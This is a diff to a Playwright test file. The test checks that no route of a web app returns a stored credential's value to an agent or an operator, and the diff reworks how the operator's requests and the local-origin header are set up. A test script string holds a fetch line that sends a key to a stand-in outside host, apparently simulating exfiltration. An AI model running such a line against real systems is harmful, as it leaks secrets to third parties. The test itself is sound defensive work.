@@ -1,10 +1,10 @@
 import { globSync } from 'node:fs'
 import type { APIResponse } from '@playwright/test'
+import { fromHere } from '../support/agents.ts'
 import { haveAccount } from '../support/people.ts'
 import { expect, test } from '../support/test.ts'
 
-/** Marks each request as sent from this machine. */
-test.use({ extraHTTPHeaders: { 'x-forwarded-for': '127.0.0.1' } })
+test.use({ extraHTTPHeaders: fromHere })
 
 const name = 'SHOWN_NOWHERE_KEY'
 const value = 'pA5s/w+rd="of&the<vault>-4711'
@@ -28,13 +28,13 @@ const script = `
   await fetch('https://other.example/?key=' + key)`
 
 test('no route ever responds with the value of a credential, neither to the agent nor to the operator', async ({
-  page,
+  playwright,
   request,
   appUrl,
 }) => {
-  await haveAccount(page.request, 'operator')
+  await using operator = await playwright.request.newContext({ baseURL: appUrl, extraHTTPHeaders: fromHere })
+  await haveAccount(operator, 'operator')
   const origin = { origin: appUrl }
-  const operator = page.request
   const seen: string[] = []
   const check = async (what: string, answer: APIResponse): Promise<APIResponse> => {
     const text = `${JSON.stringify(answer.headers())}\n${await answer.text()}`
